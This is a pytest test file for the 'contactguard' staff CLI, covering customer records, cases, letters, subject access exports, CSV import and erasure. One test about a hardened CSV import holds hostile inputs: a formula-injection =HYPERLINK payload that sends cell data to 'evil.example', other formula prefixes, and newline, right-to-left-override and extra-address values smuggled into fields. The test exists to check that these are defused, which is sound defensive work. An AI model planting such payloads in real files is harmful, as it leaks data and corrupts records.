"""The staff commands of the `contactguard` CLI, through its real entry point, against a
`contactguard serve` started in this process on a free port: what a member of staff sees."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import boto3
import pytest
from botocore.stub import Stubber

from contactguard.domain.calendar import LONDON
from contactguard.domain.model import Channel, Contact, Disposition
from contactguard_local import staff_http
from contactguard_local.cli import main
from contactguard_local.local import LiveClock
from contactguard_local.serve import serving
from contactguard_local.stack import EmbeddedStack

MANAGER = "service-manager:sam"
HEAD = "head-of-service:hana"
CALL_HANDLER = "call-handler:cal"
CET = "customer-experience-team:cat"
DPO = "data-protection-officer:dee"
CONCERN_FIELDS = ['behaviours:=["scattergun-approach"]', "note=the same complaint every day"]


@pytest.fixture(scope="module")
def live_stack() -> Iterator[EmbeddedStack]:
    """The served stack (one per module: moto's state is the process's)."""
    with EmbeddedStack(LiveClock(datetime.now(LONDON))) as stack:
        yield stack


@pytest.fixture(scope="module")
def url(live_stack: EmbeddedStack) -> Iterator[str]:
    with serving(port=0, stack=live_stack) as base:
        yield base


@dataclass
class Run:
    code: int
    out: str
    err: str

    def json(self) -> Any:
        return json.loads(self.out)


Cg = Callable[..., Run]


@pytest.fixture
def cg(url: str, capsys: pytest.CaptureFixture[str]) -> Cg:
    def run(*argv: str, who: str | None = MANAGER) -> Run:
        capsys.readouterr()
        identity = ["--as", who] if who else []
        code = main([*argv, "--url", url, *identity])
        captured = capsys.readouterr()
        return Run(code, captured.out, captured.err)

    return run


def customer(cg: Cg, customer_id: str, *emails: str, name: str = "Ada Tenant") -> Run:
    args = ["customer", "create", "--name", name, "--id", customer_id]
    for email in emails:
        args += ["--email", email]
    args += ["--address-line", "1 High Street", "--address-line", "Derby", "--postcode", "DE1 1AA"]
    result = cg(*args)
    assert result.code == 0, result.err
    return result


def concern(cg: Cg, case_id: str, customer_id: str) -> Run:
    result = cg("case", "open", "concern", case_id, customer_id, *CONCERN_FIELDS)
    assert result.code == 0, result.err
    return result


def test_a_customer_is_created_and_shown(cg: Cg) -> None:
    created = customer(cg, "cli-1", "ada@example.org")
    assert created.out.splitlines() == [
        "customer cli-1: Ada Tenant",
        "  emails   ada@example.org",
        "  address  1 High Street, Derby, DE1 1AA",
        "  officer  -",
        "  letters  standard print",
        "  cases    none",
    ]
    shown = cg("customer", "show", "cli-1", who=CALL_HANDLER)
    assert shown.code == 0
    assert shown.out.startswith("customer cli-1: Ada Tenant\n")
    linked = cg("customer", "link-email", "cli-1", "ada.2@example.org")
    assert linked.out.strip() == "linked ada.2@example.org to cli-1; 0 earlier email(s) attributed"
    large = cg("customer", "letter-format", "cli-1", "large-print", who=CALL_HANDLER)
    assert large.out.strip() == "letters to cli-1 are drafted in large print (16 point) from now on"
    shown = cg("customer", "show", "cli-1", who=CALL_HANDLER)
    assert "  letters  large print (16 point)" in shown.out.splitlines()


def test_json_prints_the_apis_reply_unchanged(cg: Cg) -> None:
    customer(cg, "cli-json")
    shown = cg("customer", "show", "cli-json", "--json")
    assert shown.json()["customer"] == {
        "customer_id": "cli-json",
        "name": "Ada Tenant",
        "emails": [],
        "address": {"lines": ["1 High Street", "Derby"], "postcode": "DE1 1AA"},
        "designated_officer_id": None,
        "letter_format": "standard",
    }


def test_a_case_is_opened_its_letter_marked_sent_and_its_state_shown(cg: Cg) -> None:
    customer(cg, "cli-2")
    opened = concern(cg, "cli-case-2", "cli-2")
    assert opened.out.splitlines()[0] == "case cli-case-2 is now concern, version 1"
    shown = cg("case", "show", "cli-case-2")
    assert "cli-case-2 (cli-2): concern, version 2" in shown.out  # the letter was drafted
    assert "concern-0001  concern  drafted" in shown.out
    today = datetime.now(LONDON).date().isoformat()
    sent = cg(
        "case", "command", "cli-case-2", "mark-letter-sent",
        "letter_id=concern-0001", f"sent_on={today}", "--version", "2",
    )  # fmt: skip
    assert sent.code == 0, sent.err
    assert sent.out.splitlines()[0] == "case cli-case-2 is now concern, version 3"
    shown = cg("case", "show", "cli-case-2", "--json")
    letter = shown.json()["case"]["letters"][0]
    assert (letter["status"], letter["sent_on"], letter["sent_by"]) == ("sent", today, "sam")
    timeline = cg("case", "timeline", "cli-case-2")
    kinds = [line.split()[3] for line in timeline.out.splitlines()[1:]]
    assert kinds[:2] == ["concern-raised", "concern"]
    assert "letter-sent" in kinds


def test_a_letter_is_marked_sent_with_the_final_version_uploaded_by_presigned_post(
    cg: Cg, live_stack: EmbeddedStack, tmp_path: Path
) -> None:
    """`--final FILE`: the API's presigned POST (locally, to serve's stand-in for S3), then
    mark-letter-sent with its key; the case keeps a copy of exactly what was posted."""
    customer(cg, "cli-final")
    concern(cg, "cli-case-final", "cli-final")
    posted = tmp_path / "Concern letter as posted.pdf"
    posted.write_bytes(b"%PDF-1.7 as posted")
    today = datetime.now(LONDON).date().isoformat()
    mark = ["case", "command", "cli-case-final", "mark-letter-sent", "letter_id=concern-0001"]
    wrong = cg(*mark, f"sent_on={today}", "--version", "2", "--final", str(tmp_path / "a.txt"))
    assert (wrong.code, wrong.err) == (
        2,
        "error: a.txt: the final version must be a .docx or .pdf file\n",
    )
    sent = cg(*mark, f"sent_on={today}", "--version", "2", "--final", str(posted))
    assert sent.code == 0, sent.err
    letter = cg("case", "show", "cli-case-final", "--json").json()["case"]["letters"][0]
    assert letter["status"] == "sent"
    assert letter["sent_key"].startswith("letters/cli-case-final/concern-0001/sent/")
    assert letter["sent_key"].endswith("/Concern letter as posted.pdf")
    kept = live_stack.s3.get_object(
        Bucket=live_stack.names["LettersBucket"], Key=letter["sent_key"]
    )
    assert (kept["Body"].read(), kept["ContentType"]) == (b"%PDF-1.7 as posted", "application/pdf")
    # The subject access export holds the draft and, beside it, what was posted.
    job = cg("export", "start", "cli-final", "--json", who=DPO).json()["job_id"]
    assert cg("export", "release", job, who=DPO).code == 0
    done = cg("export", "download", job, "--out", str(tmp_path / "out"), who=DPO)
    assert done.code == 0, done.err
    final = "letters/cli-case-final/concern-0001/as-sent.pdf"
    with zipfile.ZipFile(tmp_path / "out" / "cli-final-subject-access.zip") as archive:
        assert final in archive.namelist()
        assert "letters/cli-case-final/concern-0001/drafts/1-v1.docx" in archive.namelist()
        assert archive.read(final) == b"%PDF-1.7 as posted"
        assert "as-sent.docx (or .pdf)" in archive.read("README.txt").decode()


def test_a_stale_version_is_the_409_and_nothing_changes(cg: Cg) -> None:
    customer(cg, "cli-3")
    concern(cg, "cli-case-3", "cli-3")
    stale = cg(
        "case", "command", "cli-case-3", "close-concern", "reason=no further contact",
        "--version", "1",
    )  # fmt: skip
    assert stale.code == 1
    assert stale.out == ""
    assert stale.err == (
        "error: 409 conflict (rule design-optimistic-locking): case cli-case-3 changed since "
        "version 1: reload it and decide again\n"
    )
    assert "concern, version 2" in cg("case", "show", "cli-case-3").out


def test_a_role_the_policy_refuses_is_the_403_naming_the_rule(cg: Cg) -> None:
    customer(cg, "cli-4")
    concern(cg, "cli-case-4", "cli-4")
    refused = cg(
        "case", "command", "cli-case-4", "close-concern", "reason=resolved", "--version", "2",
        who=CET,
    )  # fmt: skip
    assert refused.code == 1
    assert refused.err == (
        "error: 403 not-permitted (rule role-permissions): close-concern needs the role: "
        "service-manager\n"
    )
    outside = cg("case", "show", "cli-case-4", who=CALL_HANDLER)
    assert outside.code == 1
    assert outside.err.startswith("error: 403 not-permitted (rule case-readers): ")
    not_staff = cg("read-queue", who="admins:eve")
    assert not_staff.code == 1
    assert "403 not-permitted (rule staff-role-required)" in not_staff.err


def test_bad_input_is_one_line_naming_the_field(cg: Cg) -> None:
    bad = cg("customer", "create", "--name", "Ada", "--email", "not-an-address")
    assert bad.code == 1
    assert bad.err.startswith("error: 400 bad-request: bad input: body.emails.0: ")
    assert bad.err.count("\n") == 1
    missing = cg("case", "command", "nowhere", "close-concern", "--version", "1")
    assert (
        missing.err
        == "error: 400 bad-request: bad input: body.close-concern.reason: Field required\n"
    )
    unknown = cg("case", "show", "no-such-case")
    assert (unknown.code, unknown.err) == (1, "error: 404 not-found: no case no-such-case\n")


def test_immediate_restrictions_open_a_restricted_case_and_lookup_shows_them(cg: Cg) -> None:
    # A name of its own: the module's stack holds other tests' customers (all Ada Tenant).
    customer(cg, "cli-5", "five@example.org", name="Ada Quintrell")
    restriction = {"type": "letters-only", "write_to": "PO Box 1, Derby DE1 2AB"}
    equality = {
        "reasonable_adjustments_considered": True,
        "vulnerability_considered": True,
        "equality_act_duties_considered": True,
        "notes": "none known",
    }
    opened = cg(
        "case", "open", "immediate", "cli-case-5", "cli-5",
        f"restrictions:=[{json.dumps(restriction)}]", f"equality:={json.dumps(equality)}",
        "reason=threats to staff", "immediate_reason=threats to staff", *CONCERN_FIELDS[:1],
        who=HEAD,
    )  # fmt: skip
    assert opened.code == 0, opened.err
    assert opened.out.splitlines()[0] == "case cli-case-5 is now restricted, version 2"
    looked = cg("lookup", "--email", "five@example.org", who=CALL_HANDLER)
    assert looked.code == 0
    assert looked.out.splitlines()[0].startswith("cli-5 Ada Quintrell: RESTRICTED")
    assert "  email: file-and-block (letters-only restriction in force" in looked.out
    customer(cg, "cli-5b", "five-b@example.org", name="Ada Quintrell")
    by_name = cg("lookup", "--name", "ada quintrell", who=CALL_HANDLER)
    assert by_name.code == 0, by_name.err
    assert by_name.out.splitlines() == [
        "2 customer(s) found by name",
        "  cli-5   Ada Quintrell  DE1 1AA  RESTRICTED",
        "  cli-5b  Ada Quintrell  DE1 1AA  no restrictions in force",
    ]
    both = cg("lookup", "--name", "Ada", "--postcode", "DE1 1AA", who=CALL_HANDLER)
    assert both.code == 2


def test_contacts_are_logged_and_listed(cg: Cg) -> None:
    customer(cg, "cli-6")
    logged = cg(
        "contact", "log", "cli-6", "--channel", "phone", "--summary", "rang about repairs",
        "--key", "call-1",
    )  # fmt: skip
    assert logged.out.splitlines()[0] == "logged: contact staff-call-1"
    again = cg("contact", "log", "cli-6", "--channel", "phone", "--key", "call-1")
    assert again.out.startswith("already logged (same key): nothing new")
    listed = cg("contact", "list", "cli-6")
    assert listed.out.splitlines()[0].startswith("cli-6: 1 contact(s)")
    assert "phone  inbound  accepted  staff-call-1  rang about repairs" in listed.out


def test_the_read_queue_is_for_its_readers(cg: Cg) -> None:
    assert cg("read-queue").out.endswith("filed email(s) waiting to be read\n")
    assert "rule read-queue-readers" in cg("read-queue", who=CALL_HANDLER).err


def test_an_export_is_a_draft_until_released_and_then_the_apis_own_zip(
    cg: Cg, tmp_path: Path
) -> None:
    """The CLI starts the job and waits for its draft, lists what is marked for redaction
    review, and downloads the zip the API serves (the export function's, byte for byte) only
    once a data protection officer has released it."""
    import docx

    customer(cg, "cli-7", "seven@example.org")
    concern(cg, "cli-case-7", "cli-7")
    started = cg("export", "start", "cli-7", who=DPO)
    assert started.code == 0, started.err
    head, *rest = started.out.splitlines()
    job = head.split()[1]
    assert head.startswith(f"export {job} for cli-7: draft, ")
    assert "  marked for redaction review: 1 item(s)" in rest  # the concern's note
    assert any("cases/cli-case-7/events.json" in line for line in rest)
    assert rest[-1].endswith(
        f"`contactguard export release {job} --note ... [--withhold PATH=REASON]`"
    )
    early = cg("export", "download", job, "--out", str(tmp_path), who=DPO)
    assert early.code == 1
    assert "409 conflict (rule export-not-released)" in early.err
    assert not (tmp_path / "cli-7-subject-access.zip").exists()
    review = cg("export", "download", job, "--review", "--out", str(tmp_path), who=DPO)
    assert review.code == 0, review.err
    drafted = tmp_path / "cli-7-subject-access-draft.zip"
    assert review.out.startswith(f"wrote {drafted}: the draft subject access export (")
    refused = cg("export", "release", job, who=MANAGER)
    assert "rule data-protection-officer" in refused.err
    with pytest.raises(SystemExit) as bad:  # argparse refuses it before any call
        cg("export", "release", job, "--withhold", "no-reason", who=DPO)
    assert bad.value.code == 2
    released = cg(
        "export",
        "release",
        job,
        "--note",
        "the audit withheld",
        "--withhold",
        "audit/access.json=It names our staff.",
        who=DPO,
    )
    assert released.code == 0, released.err
    assert "released by dee at " in released.out
    assert "1 file(s) withheld" in released.out
    assert any(
        "audit/access.json" in line and "It names our staff." in line
        for line in released.out.splitlines()
    )
    done = cg("export", "download", job, "--out", str(tmp_path), who=DPO)
    assert done.code == 0, done.err
    zipped = tmp_path / "cli-7-subject-access.zip"
    assert done.out.startswith(f"wrote {zipped}: the released subject access export (")
    letter = "letters/cli-case-7/concern-0001/drafts/1-v1.docx"
    with zipfile.ZipFile(zipped) as archive:
        names = archive.namelist()
        customer_record = json.loads(archive.read("customer.json"))
        document = docx.Document(io.BytesIO(archive.read(letter)))
    assert {"README.txt", "customer.json", "contacts/contacts.json", "WITHHELD.txt"} <= set(names)
    assert "audit/access.json" not in names
    assert {"cases/cli-case-7/case.json", "cases/cli-case-7/events.json", letter} <= set(names)
    assert customer_record["customer_id"] == "cli-7"
    text = "\n".join(p.text for p in document.paragraphs)
    assert "Ada Tenant" in text  # the drafted letter, addressed to her
    as_json = cg("export", "json", "cli-7", "--out", str(tmp_path), who=DPO)
    assert (
        as_json.out.strip() == f"wrote {tmp_path / 'cli-7-export.json'}: the API's export, as given"
    )
    assert (
        json.loads((tmp_path / "cli-7-export.json").read_text())["customer"]["name"] == "Ada Tenant"
    )


def test_a_csv_import_takes_the_good_rows_and_reports_the_bad(cg: Cg, tmp_path: Path) -> None:
    customer(cg, "cli-8", "taken@example.org")
    source = tmp_path / "customers.csv"
    source.write_text(
        "customer_id,name,emails,address_lines,postcode\n"
        "imp-1,Bob Tenant,bob@example.org,2 Low Street|Derby,DE1 2AA\n"
        "imp-2,,nobody@example.org,,\n"
        "imp-3,Cy Tenant,not-an-email,,\n"
        "imp-1,Bob Again,,,\n"
        "imp-4,Di Tenant,BOB@example.org,,\n"
        "imp-5,Ed Tenant,taken@example.org,,\n"
        "imp-6,Flo Tenant,flo@example.org;flo.2@example.org,,\n",
        encoding="utf-8",
    )
    result = cg("import", "customers", str(source))
    report = tmp_path / "customers.rejected.csv"
    assert result.code == 1  # some rows were refused
    assert result.out == f"imported 2 of 7 row(s) from {source}; 5 rejected: see {report}\n"
    assert result.err.strip().splitlines()[-1] == "imported 2/7"
    with report.open(newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows == [
        ["row", "customer_id", "reason"],
        ["3", "imp-2", "name: missing"],
        ["4", "imp-3", "email 'not-an-email': an email address has exactly one @"],
        ["5", "imp-1", "duplicate: customer_id imp-1 is also on row 2"],
        ["6", "imp-4", "duplicate: email BOB@example.org is also on row 2"],
        [
            "7",
            "imp-5",
            "409 conflict (rule email-claimed): an email address belongs to another customer: "
            "nothing was written",
        ],
    ]
    shown = cg("customer", "show", "imp-6", "--json")
    assert shown.json()["customer"]["emails"] == ["flo@example.org", "flo.2@example.org"]
    bob = cg("customer", "show", "imp-1", "--json").json()["customer"]
    assert bob["address"] == {"lines": ["2 Low Street", "Derby"], "postcode": "DE1 2AA"}


def test_a_csv_import_report_never_runs_a_formula_and_names_stay_one_line(
    cg: Cg, tmp_path: Path
) -> None:
    """Issue 14, finding 8: cells such as =HYPERLINK(...) were written to the report as
    given, for a spreadsheet to run; a newline or a right-to-left override in a name reached
    the letter's address block."""
    hyperlink = '=HYPERLINK("http://evil.example/?d="&A1,"Click for details")'
    source = tmp_path / "hostile.csv"
    with source.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["customer_id", "name", "emails"])
        writer.writerows(
            [
                [hyperlink, "Mallory", ""],
                ["+SUM(1;2)", "Mallory", ""],
                ["-2+3", "Mallory", ""],
                ["@SUM(1)", "Mallory", ""],
                ["inj-1", "Ada\nTenant", ""],
                ["inj-2", "Ada \u202eTenant", ""],
                ["inj-3", "Bob Tenant", "bob@example.org,spy@evil.example"],
                ["inj-4", "Cy Tenant", "cy@example.org"],
            ]
        )
    result = cg("import", "customers", str(source))
    assert result.code == 1
    report = tmp_path / "hostile.rejected.csv"
    with report.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["row", "customer_id", "reason"]
    assert [row[1] for row in rows[1:5]] == [f"'{hyperlink}", "'+SUM(1;2)", "'-2+3", "'@SUM(1)"]
    for row in rows[1:]:
        assert not row[1].startswith(("=", "+", "-", "@", "\t", "\r"))
        assert not row[2].startswith(("=", "+", "-", "@", "\t", "\r"))
    by_id = {row[1]: row[2] for row in rows[5:]}
    assert "rule single-line" in by_id["inj-1"]
    assert "bidirectional" in by_id["inj-2"]
    assert "no commas or semicolons" in by_id["inj-3"]
    assert cg("customer", "show", "inj-4", "--json").code == 0  # the good row went in
    for refused in ("inj-1", "inj-2", "inj-3"):
        assert cg("customer", "show", refused, "--json").code == 1


def test_a_csv_without_a_name_column_is_a_usage_error(cg: Cg, tmp_path: Path) -> None:
    source = tmp_path / "wrong.csv"
    source.write_text("id,full_name\n1,Ada\n", encoding="utf-8")
    result = cg("import", "customers", str(source))
    assert result.code == 2
    assert "needs a header row with a name column" in result.err


def test_no_api_named_or_no_identity_is_a_usage_error(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("CONTACTGUARD_API_URL", raising=False)
    monkeypatch.delenv("CONTACTGUARD_AS", raising=False)
    monkeypatch.delenv("CONTACTGUARD_TOKEN", raising=False)
    assert main(["customer", "show", "x"]) == 2
    assert "which API? --local" in capsys.readouterr().err
    assert main(["customer", "show", "x", "--local"]) == 2
    assert "--as ROLE:STAFF-ID" in capsys.readouterr().err
    assert main(["customer", "show", "x", "--local", "--as", "not a role"]) == 2
    with pytest.raises(SystemExit) as exited:
        main(["case", "command", "c", "close-concern"])  # no --version
    assert exited.value.code == 2


def test_an_unreachable_api_is_exit_3_with_what_to_do(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(staff_http, "LOCAL_URL", "http://127.0.0.1:9")
    assert main(["customer", "show", "x", "--local", "--as", MANAGER]) == 3
    assert capsys.readouterr().err == (
        "error: no local API at http://127.0.0.1:9: start it with `contactguard serve`\n"
    )
    assert main(["customer", "show", "x", "--url", "http://127.0.0.1:9", "--token", "t"]) == 3
    assert "cannot reach the API at http://127.0.0.1:9" in capsys.readouterr().err


def test_stack_finds_the_api_url_in_the_stack_outputs(
    url: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    client = boto3.client("cloudformation", region_name="eu-west-2")
    stubber = Stubber(client)
    stack = {
        "StackName": "contactguard-dev",
        "CreationTime": datetime(2026, 11, 1, tzinfo=LONDON),
        "StackStatus": "CREATE_COMPLETE",
        "Outputs": [{"OutputKey": "ApiUrl", "OutputValue": url}],
    }
    stubber.add_client_error(
        "describe_stacks",
        "ValidationError",
        "Stack with id gone does not exist",
        expected_params={"StackName": "gone"},
    )
    stubber.add_response("describe_stacks", {"Stacks": [stack]}, {"StackName": "contactguard-dev"})
    monkeypatch.setattr(boto3, "client", lambda *_, **__: client)
    with stubber:
        args = ["--as", MANAGER, "--stack"]
        assert main(["customer", "create", "--name", "Ada", "--id", "cli-9", *args, "gone"]) == 3
        assert capsys.readouterr().err == (
            "error: cannot read stack gone: An error occurred (ValidationError) when calling "
            "the DescribeStacks operation: Stack with id gone does not exist\n"
        )
        created = main(
            ["customer", "create", "--name", "Ada", "--id", "cli-9", *args, stack["StackName"]]
        )
        assert created == 0
        assert capsys.readouterr().out.startswith("customer cli-9: Ada\n")
    stubber.assert_no_pending_responses()


def test_the_installed_command_against_the_server(url: str) -> None:
    command = Path(sys.executable).with_name("contactguard")
    env = {**os.environ, "CONTACTGUARD_API_URL": url, "CONTACTGUARD_AS": MANAGER}
    create = [command, "customer", "create", "--name", "Sub Process", "--id", "cli-sub"]
    created, again = (
        subprocess.run(create, capture_output=True, text=True, env=env, timeout=120, check=False)
        for _ in range(2)
    )
    assert (created.returncode, created.stderr) == (0, "")
    assert created.stdout.startswith("customer cli-sub: Sub Process\n")
    assert again.returncode == 1
    assert again.stderr == (
        "error: 409 conflict (rule customer-exists): customer cli-sub already exists\n"
    )


def test_a_filed_email_is_read_off_the_queue_from_the_command_line(
    live_stack: EmbeddedStack, url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """A letters-only customer's email is filed, not delivered; the designated officer sees it
    in the read queue, reads it and records what it held."""
    from email.message import EmailMessage

    from contactguard.domain.model import Actor, Customer, PostalAddress, Role
    from contactguard_local.examples import immediate_restrictions

    stack, clock = live_stack, live_stack.clock
    address = PostalAddress(lines=("1 High Street",), postcode="DE1 1AA")
    stack.store.put_customer(
        Customer(customer_id="r1", name="R", emails=("r1@example.org",), address=address)
    )
    head = Actor(actor_id="hos", role=Role.HEAD_OF_SERVICE)
    stack.cases.open_case(immediate_restrictions("rc1", "r1"), head, clock() - timedelta(1))
    stack.pump_streams()
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = "r1@example.org", "contact@example.org", "hi"
    mail.set_content("the boiler again")
    assert stack.deliver_email(mail.as_bytes(), "r1@example.org", "hi") == "STOP_RULE_SET"

    def cli(*argv: str) -> tuple[int, str, str]:
        capsys.readouterr()
        code = main([*argv, "--url", url, "--as", "safeguarding-lead:sage"])
        out, err = capsys.readouterr()
        # The server runs in this process: drop its functions' JSON log lines.
        said = [line for line in out.splitlines(keepends=True) if line[:1] != "{"]
        return code, "".join(said), err

    code, out, _ = cli("read-queue")
    assert code == 0
    (row,) = [line for line in out.splitlines()[1:] if line.split()[0] == "r1"]
    contact_id = row.split()[1]
    code, out, _ = cli("mark-read", contact_id, "--outcome", "nothing-new", "--note", "ok")
    assert code == 0
    assert out.startswith(f"{contact_id} read: nothing-new, by sage at ")
    assert contact_id not in cli("read-queue")[1]
    code, out, _ = cli("mark-read", contact_id, "--outcome", "nothing-new")
    assert (code, out.split(":")[0]) == (0, "nothing to do (rule read-once)")


def test_an_export_to_a_place_it_cannot_write_is_one_line_not_a_traceback(
    cg: Cg, tmp_path: Path
) -> None:
    customer(cg, "cli-10")
    blocker = tmp_path / "a-file"
    blocker.write_text("not a directory")
    done = cg("export", "json", "cli-10", "--out", str(blocker), who=DPO)
    assert done.code == 2
    assert done.err.startswith("error: cannot write ")
    assert "Traceback" not in done.err


def test_the_data_protection_officer_asks_who_looked_at_a_customer(cg: Cg) -> None:
    customer(cg, "cli-audit")
    assert cg("customer", "show", "cli-audit", who=CALL_HANDLER).code == 0
    trail = cg("audit", "--customer", "cli-audit", who=DPO)
    assert trail.code == 0, trail.err
    lines = trail.out.splitlines()
    assert lines[0].startswith("customer cli-audit: 3 audit record(s) ")
    rows = [line.split() for line in lines[1:]]
    assert [(row[2], row[3], row[4]) for row in rows] == [
        ("sam", "service-manager", "register-customer"),
        ("cal", "call-handler", "read-customer"),
        ("dee", "data-protection-officer", "read-audit"),
    ]
    refused = cg("audit", "--customer", "cli-audit", who=MANAGER)
    assert (refused.code, refused.err.split(":")[0]) == (1, "error")
    assert "rule data-protection-officer" in refused.err
    both = cg("audit", "--customer", "x", "--actor", "y", who=DPO)
    assert (both.code, both.err) == (2, "error: give exactly one of --customer or --actor\n")


def test_filed_email_is_listed_without_its_words_for_a_call_handler(
    cg: Cg, live_stack: EmbeddedStack
) -> None:
    customer(cg, "cli-filed")
    live_stack.store.record_contact(
        Contact(
            contact_id="ses-cli-filed",
            customer_id="cli-filed",
            channel=Channel.EMAIL,
            at=datetime.now(LONDON),
            summary="my private words",
            disposition=Disposition.FILED_BLOCKED,
            source_address="filed@example.org",
        ),
        queue_for_reading=True,
    )
    listed = cg("contact", "list", "cli-filed", who=CALL_HANDLER)
    assert listed.code == 0, listed.err
    assert "(filed email: its words are for the designated officer)" in listed.out
    assert "my private words" not in listed.out
    assert "my private words" in cg("contact", "list", "cli-filed", who=MANAGER).out


@pytest.mark.policy("design-rectification")
@pytest.mark.policy("design-erasure")
def test_a_customer_is_corrected_then_erased_only_once_confirmed(cg: Cg) -> None:
    assert customer(cg, "cust-era", "era.wrong@example.org", name="Era Tennant").code == 0
    fixed = cg(
        "customer",
        "correct",
        "cust-era",
        "--name",
        "Era Tenant",
        "--email",
        "era.wrong@example.org",
        "era@example.org",
    )
    assert fixed.code == 0, fixed.err
    assert fixed.out.splitlines() == [
        "corrected name, email of cust-era (the old values are in the audit record only)"
    ]
    assert "Tennant" not in cg("customer", "show", "cust-era").out
    nothing = cg("customer", "correct", "cust-era")
    assert nothing.code == 2
    assert "say what to correct" in nothing.err

    unconfirmed = cg("customer", "erase", "cust-era", who=DPO)
    assert unconfirmed.code == 2
    assert "--confirm cust-era" in unconfirmed.err
    assert cg("customer", "show", "cust-era").code == 0  # nothing was erased
    refused = cg("customer", "erase", "cust-era", "--confirm", "cust-era")  # a manager
    assert refused.code == 1
    assert "rule data-protection-officer" in refused.err

    erased = cg("customer", "erase", "cust-era", "--confirm", "cust-era", who=DPO)

    assert erased.code == 0, erased.err
    lines = erased.out.splitlines()
    assert lines[0].startswith("erased customer cust-era at ")
    assert lines[0].endswith(" by dee (data-protection-officer)")
    assert lines[1].startswith("  receipt  erasure-")
    assert "  table    audit-values-cleared 1, customer 1, email 1, find 3" in lines
    assert "  raw-mail nothing held" in lines
    assert cg("customer", "show", "cust-era").code == 1  # 404


def test_an_unmatched_sender_is_erased_from_the_command_line(cg: Cg) -> None:
    unconfirmed = cg("erase-sender", "nobody.known@example.net", who=DPO)
    assert unconfirmed.code == 2
    erased = cg(
        "erase-sender",
        "nobody.known@example.net",
        "--confirm",
        "nobody.known@example.net",
        who=DPO,
    )
    assert erased.code == 0, erased.err
    assert erased.out.splitlines()[0].startswith("erased sender sha256:")
    assert "nobody.known" not in erased.out
